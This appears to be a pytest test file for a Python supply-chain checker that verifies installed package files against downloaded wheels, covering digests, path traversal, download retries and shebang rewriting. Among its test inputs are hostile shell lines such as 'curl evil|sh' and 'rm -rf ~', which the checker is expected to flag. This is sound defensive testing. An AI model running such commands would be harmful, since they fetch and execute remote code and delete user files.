"""The parts of the installed-files check: RECORD digests, the wheel reader and its limits,
choosing the installed wheel, and downloading it (retries, limits, the digest)."""

from __future__ import annotations

import asyncio
import hashlib
import io
import os
import sys
import zipfile
from pathlib import Path

import pytest
from packaging.tags import parse_tag

from pyvouch.errors import IndexLookupError, OfflineMiss
from pyvouch.index.client import DownloadFailed, IndexClient
from pyvouch.index.simple import IndexFile
from pyvouch.installed.check import matching_wheel
from pyvouch.installed.compare import compare
from pyvouch.installed.files import check_files, listed_in
from pyvouch.installed.record import RecordUnavailable, decode_digest, read_record
from pyvouch.installed.wheel import Limits, WheelManifest, WheelProblem, read_wheel
from pyvouch.sources import load_packages
from pyvouch.wheel_fetch.fetch import verified_wheel
from tests.support.index_servers import Reply, serve
from tests.support.installed_sites import TOOL_FILES, b64, write_wheel


def zipped(members: dict[str, bytes]) -> io.BytesIO:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    buf.seek(0)
    return buf


# -- digests --------------------------------------------------------------------------------


def test_decode_digest_is_urlsafe_without_padding() -> None:
    digest = hashlib.sha256(b"x").digest()
    assert decode_digest(b64(digest)) == digest
    assert decode_digest(b64(digest) + "=") == digest  # padding tolerated
    for bad in ("", "a+b/", "ab cd", "ab*d", "a"):
        with pytest.raises(ValueError, match="urlsafe"):
            decode_digest(bad)


def test_record_paths_are_relative_to_the_site(tmp_path: Path) -> None:
    info = tmp_path / "x-1.0.dist-info"
    info.mkdir()
    digest = b64(hashlib.sha256(b"").digest())
    (info / "RECORD").write_text(f"x.py,sha256={digest},0\n../../bin/x,sha256={digest},0\n")
    record = read_record(info)
    assert [r.location for r in record.rows] == [
        tmp_path / "x.py",
        tmp_path.parent.parent / "bin" / "x",
    ]
    (info / "RECORD").write_text(f"x.py,sha1={digest},0\n")
    with pytest.raises(RecordUnavailable, match="sha1"):
        read_record(info)
    (info / "RECORD").write_text(f"x.py,shake_128={digest},0\n")
    with pytest.raises(RecordUnavailable, match="variable-length"):
        read_record(info)


# -- the wheel reader -----------------------------------------------------------------------


def test_manifest_digests_members_and_scripts(tmp_path: Path) -> None:
    path = write_wheel(tmp_path, "tool", "1.0", TOOL_FILES)
    manifest = read_wheel(path, path.name)
    assert manifest.dist_info == "tool-1.0.dist-info"
    assert manifest.entry_points == frozenset({"tool"})
    core = manifest.members["tool/core.py"]
    assert core.sha256 == hashlib.sha256(b"VALUE = 1\n").digest() and core.size == 10
    assert core.script_body_sha256 is None
    runme = manifest.members["tool-1.0.data/scripts/runme"]
    assert runme.script_body_sha256 == hashlib.sha256(b"print('runme')\n").digest()
    # a script that does not start #!python is not rewritten by installers
    assert manifest.members["tool-1.0.data/scripts/plain.sh"].script_body_sha256 is None


@pytest.mark.parametrize(
    ("members", "problem"),
    [
        ({"../evil.py": b"", "x-1.0.dist-info/METADATA": b""}, "unsafe path"),
        ({"/abs.py": b"", "x-1.0.dist-info/METADATA": b""}, "unsafe path"),
        ({"a\\b.py": b"", "x-1.0.dist-info/METADATA": b""}, "unsafe path"),
        ({"x.py": b""}, "no single .dist-info"),
        ({"x-1.0.dist-info/METADATA": b"", "X-1.0.dist-info/METADATA": b""}, "no single"),
        (
            {"x-1.0.dist-info/METADATA": b"", "x-1.0.dist-info/entry_points.txt": b"[a\nb"},
            "entry_points.txt",
        ),
    ],
)
def test_malformed_wheels_are_refused(members: dict[str, bytes], problem: str) -> None:
    with pytest.raises(WheelProblem, match=problem):
        read_wheel(zipped(members), "x-1.0-py3-none-any.whl")


def test_duplicate_members_are_refused() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("x-1.0.dist-info/METADATA", b"")
        with pytest.warns(UserWarning):
            zf.writestr("x.py", b"a")
            zf.writestr("x.py", b"b")
    buf.seek(0)
    with pytest.raises(WheelProblem, match="twice"):
        read_wheel(buf, "x-1.0-py3-none-any.whl")


def test_wheel_limits() -> None:
    members = {"x-1.0.dist-info/METADATA": b"", **{f"x/{i}.py": b"a" * 100 for i in range(5)}}
    read_wheel(zipped(members), "x-1.0-py3-none-any.whl", Limits(members=6, unpacked_bytes=500))
    with pytest.raises(WheelProblem, match="more than 5 files"):
        read_wheel(zipped(members), "x-1.0-py3-none-any.whl", Limits(members=5))
    with pytest.raises(WheelProblem, match="more than the limit"):
        read_wheel(zipped(members), "x-1.0-py3-none-any.whl", Limits(unpacked_bytes=499))
    with pytest.raises(WheelProblem, match="zip"):
        read_wheel(io.BytesIO(b"not a zip"), "x-1.0-py3-none-any.whl")


# -- which wheel was installed --------------------------------------------------------------


def _files(*names: str) -> list[IndexFile]:
    return [
        IndexFile(n, f"http://127.0.0.1/{n}", "0" * 64, None, provenance_key=False) for n in names
    ]


def test_matching_wheel_by_tags_and_build() -> None:
    files = _files(
        "x-1.0.tar.gz",
        "x-1.0-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl",
        "x-1.0-cp312-cp312-manylinux_2_17_x86_64.whl",
        "x-1.0-1-cp312-cp312-manylinux_2_17_x86_64.whl",
    )
    linux311 = frozenset(parse_tag("cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64"))
    found = matching_wheel(files, linux311, None)
    assert found is not None and "cp311" in found.filename
    # one tag in common (a WHEEL file that names fewer tags than the filename)
    some = frozenset(parse_tag("cp311-cp311-manylinux2014_x86_64"))
    assert matching_wheel(files, some, None) == found
    cp312 = frozenset(parse_tag("cp312-cp312-manylinux_2_17_x86_64"))
    assert matching_wheel(files, cp312, None) == files[2]
    assert matching_wheel(files, cp312, "1") == files[3]
    assert matching_wheel(files, frozenset(parse_tag("py3-none-any")), None) is None
    assert matching_wheel(files, frozenset(), None) is None


# -- the download ---------------------------------------------------------------------------


def _fetch_with_warnings(
    url: str, sha256: str, *, offline: bool = False, limit: int = 1 << 20
) -> tuple[WheelManifest, tuple[str, ...]]:
    async def run() -> tuple[WheelManifest, tuple[str, ...]]:
        async with IndexClient(url, offline=offline, use_cache=False, backoff=0.01) as client:
            return await verified_wheel(
                client, filename="tool-1.0-py3-none-any.whl", url=url, sha256=sha256, limit=limit
            )

    return asyncio.run(run())


def _fetch(url: str, sha256: str, *, offline: bool = False, limit: int = 1 << 20) -> object:
    return _fetch_with_warnings(url, sha256, offline=offline, limit=limit)[0]


def test_download_retries_and_checks_the_digest(tmp_path: Path) -> None:
    data = write_wheel(tmp_path, "tool", "1.0", TOOL_FILES).read_bytes()
    digest = hashlib.sha256(data).hexdigest()
    with serve() as server:
        # a body cut half-way, then a server error, then the wheel: the retried download
        # starts from an empty file, so the digest is the wheel's
        server.route(
            "/w.whl", Reply(body=data, truncate_to=len(data) // 2), Reply(503), Reply(body=data)
        )
        manifest = _fetch(server.url("/w.whl"), digest)
        assert "tool/core.py" in manifest.members  # type: ignore[attr-defined]
        with pytest.raises(WheelProblem, match="not the verified"):
            _fetch(server.url("/w.whl"), "0" * 64)
        with pytest.raises(IndexLookupError, match=r"exceeds the limit|too large"):
            _fetch(server.url("/w.whl"), digest, limit=100)
        server.route("/gone.whl", Reply(404))
        with pytest.raises(IndexLookupError, match="HTTP 404"):
            _fetch(server.url("/gone.whl"), digest)
        with pytest.raises(OfflineMiss):
            _fetch(server.url("/w.whl"), digest, offline=True)


# -- the comparison, on a hand-made installation --------------------------------------------


def _install(root: Path, files: dict[str, bytes], extra_rows: tuple[str, ...] = ()) -> Path:
    """Write ``files`` (paths relative to ``root/lib/site-packages``) and a RECORD."""
    site = root / "lib" / "site-packages"
    rows = []
    for rel, data in files.items():
        path = Path(os.path.normpath(site / rel))
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        rows.append(f"{rel},sha256={b64(hashlib.sha256(data).digest())},{len(data)}")
    info = site / "x-1.0.dist-info"
    info.mkdir(parents=True, exist_ok=True)
    (info / "RECORD").write_text("\n".join([*rows, *extra_rows, "x-1.0.dist-info/RECORD,,"]))
    return info


def _compare(info: Path, wheel: dict[str, bytes]) -> list[str]:
    record = read_record(info)
    local = check_files(record, listed_in(record.site))
    manifest = read_wheel(zipped(wheel), "x-1.0-py3-none-any.whl")
    return [str(d) for d in (*local.differences, *compare(local, manifest))]


def test_platlib_beside_purelib_and_launchers(tmp_path: Path) -> None:
    meta = {"x-1.0.dist-info/METADATA": b"Name: x\n"}
    eps = {"x-1.0.dist-info/entry_points.txt": b"[gui_scripts]\nx-gui = x:main\n"}
    wheel = {**meta, **eps, "x.py": b"X\n", "x-1.0.data/platlib/x_fast.py": b"F\n"}
    info = _install(
        tmp_path,
        {
            **meta,
            **eps,
            "x.py": b"X\n",
            "../../lib64/site-packages/x_fast.py": b"F\n",  # platlib is another directory
            "../../bin/x-gui.exe": b"launcher",
            "../../bin/x-gui-script.pyw": b"launcher",
        },
    )
    assert _compare(info, wheel) == []
    # a launcher for a name that is no entry point, or one without a hash, is a difference
    info = _install(tmp_path / "b", {**meta, **eps, "x.py": b"X\n", "../../bin/x-cli": b"l"})
    assert _compare(info, {**wheel, "x-1.0.data/platlib/x_fast.py": b"F\n"}) == [
        "x-1.0.data/platlib/x_fast.py (in the verified wheel, but not in RECORD)",
        "../../bin/x-cli (in RECORD, but not in the verified wheel)",
    ]
    info = _install(tmp_path / "c", {**meta, **eps, "x.py": b"X\n"}, ("../../bin/x-gui,,",))
    (tmp_path / "c" / "bin").mkdir()
    (tmp_path / "c" / "bin" / "x-gui").write_bytes(b"anything")
    assert _compare(info, {**meta, **eps, "x.py": b"X\n"}) == [
        "../../bin/x-gui (in RECORD without a hash)"
    ]


def test_pyc_is_allowed_only_beside_a_source_of_the_wheel(tmp_path: Path) -> None:
    meta = {"x-1.0.dist-info/METADATA": b"Name: x\n"}
    info = _install(
        tmp_path,
        {**meta, "x.py": b"X\n"},
        ("__pycache__/x.cpython-311.pyc,,", "__pycache__/evil.cpython-311.pyc,,"),
    )
    assert _compare(info, {**meta, "x.py": b"X\n"}) == [
        "__pycache__/evil.cpython-311.pyc (in RECORD, but not in the verified wheel)"
    ]


@pytest.mark.parametrize(
    ("installed", "same"),
    [
        (b"#!/venv/bin/python\nprint(1)\n", True),
        (b"#!/opt/pypy/bin/pypy3.10\r\nprint(1)\n", True),
        (b"#!/usr/bin/env python3\nprint(1)\n", True),
        (b"#!/bin/sh\n'''exec' \"/a b/python\" \"$0\" \"$@\"\n' '''\nprint(1)\n", True),
        (
            b"#!/bin/sh\n'''exec' \"$(dirname -- \"$(realpath -- \"$0\")\")\"/'python' "
            b"\"$0\" \"$@\"\n' '''\nprint(1)\n",
            True,
        ),
        (b"#!/bin/sh\nprint(1)\n", False),  # the shell would run the body
        (b"#!/usr/bin/perl\nprint(1)\n", False),
        (b"#!/bin/sh\n'''exec' /x \"$0\"\nrm -rf ~\nprint(1)\n", False),
        (b"#!/bin/sh\n'''exec' curl evil|sh; python \"$0\" \"$@\"\n' '''\nprint(1)\n", False),
        (b"#!/bin/sh\n'''exec' $(curl evil)/python \"$0\" \"$@\"\n' '''\nprint(1)\n", False),
        (b"print(1)\n", False),
        (b"#!/venv/bin/python\nprint(2)\n", False),
    ],
)
def test_rewritten_interpreter_line(tmp_path: Path, installed: bytes, same: bool) -> None:
    meta = {"x-1.0.dist-info/METADATA": b"Name: x\n"}
    wheel = {**meta, "x-1.0.data/scripts/run": b"#!python\nprint(1)\n"}
    info = _install(tmp_path, {**meta, "../../bin/run": installed})
    differences = _compare(info, wheel)
    assert differences == ([] if same else [
        "../../bin/run (differs from the verified wheel's script after its #! line)"
    ])  # fmt: skip


def test_pip_writes_its_own_versioned_launchers(tmp_path: Path) -> None:
    meta = {"x-1.0.dist-info/METADATA": b"Name: x\n"}
    eps = {"x-1.0.dist-info/entry_points.txt": b"[console_scripts]\npip = x:a\npip3.99 = x:a\n"}
    wheel = {**meta, **eps}
    launchers = {f"../../bin/{n}": b"launcher" for n in ("pip", "pip3", "pip3.11")}
    assert _compare(_install(tmp_path, {**wheel, **launchers}), wheel) == []
    for name in ("pipx", "pip-evil", "easy_install-3.11", "python3"):
        info = _install(tmp_path / name, {**wheel, f"../../bin/{name}": b"launcher"})
        assert _compare(info, wheel) == [
            f"../../bin/{name} (in RECORD, but not in the verified wheel)"
        ]


def test_files_installers_add_to_the_dist_info(tmp_path: Path) -> None:
    meta = {"x-1.0.dist-info/METADATA": b"Name: x\n"}
    added = {
        f"x-1.0.dist-info/{n}": b"by the installer"
        for n in ("INSTALLER", "REQUESTED", "direct_url.json", "uv_cache.json")
    }
    assert _compare(_install(tmp_path, {**meta, **added}), meta) == []
    info = _install(tmp_path / "b", {**meta, "x-1.0.dist-info/hook.py": b"code"})
    assert _compare(info, meta) == [
        "x-1.0.dist-info/hook.py (in RECORD, but not in the verified wheel)"
    ]


# -- the environment source -----------------------------------------------------------------


def test_environment_names_each_dist_info_and_warns_of_unowned_pth(tmp_path: Path) -> None:
    site = tmp_path / "lib" / "site-packages"
    info = _install(tmp_path, {"x.py": b"X\n"})
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: x\nVersion: 1.0\n")
    (site / "listed.pth").write_text("import x\n")
    with (info / "RECORD").open("a") as record:
        record.write("\nlisted.pth,,\n")
    (site / "stray.pth").write_text("import os\n")
    loaded = load_packages(site)
    (package,) = loaded.packages
    assert package.installed == str(info)
    assert [w for w in loaded.warnings if ".pth" in w] == [
        f"{site / 'stray.pth'}: a .pth file that no installed distribution's RECORD lists "
        "(Python runs it at every start-up; nothing verified it)"
    ]


def test_pth_outside_site_directories_is_not_warned_of(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A Python's sys.path starts with the current directory, where .pth files do nothing."""
    (tmp_path / "here.pth").write_text("import os\n")
    monkeypatch.chdir(tmp_path)
    loaded = load_packages(Path(sys.executable), format="environment")
    assert not [w for w in loaded.warnings if "here.pth" in w]


def test_download_redirected_to_another_host_is_named(tmp_path: Path) -> None:
    data = write_wheel(tmp_path, "tool", "1.0", TOOL_FILES).read_bytes()
    digest = hashlib.sha256(data).hexdigest()
    with serve() as server:
        server.route("/real.whl", Reply(body=data))
        server.route("/w.whl", Reply(302, headers={"Location": server.other_host_url("/real.whl")}))
        server.route("/gone.whl", Reply(302, headers={"Location": server.other_host_url("/x")}))
        server.route("/x", Reply(404))
        manifest, warnings = _fetch_with_warnings(server.url("/w.whl"), digest)
        assert "tool/core.py" in manifest.members
        (warning,) = warnings
        assert "to another host" in warning and "localhost" in warning
        with pytest.raises(WheelProblem) as bad:
            _fetch(server.url("/w.whl"), "0" * 64)
        assert bad.value.warnings == warnings
        assert "to another host" in bad.value.reason
        with pytest.raises(DownloadFailed) as failed:
            _fetch(server.url("/gone.whl"), digest)
        assert "HTTP 404" in str(failed.value)
        assert "to another host" in str(failed.value)
        assert failed.value.warnings
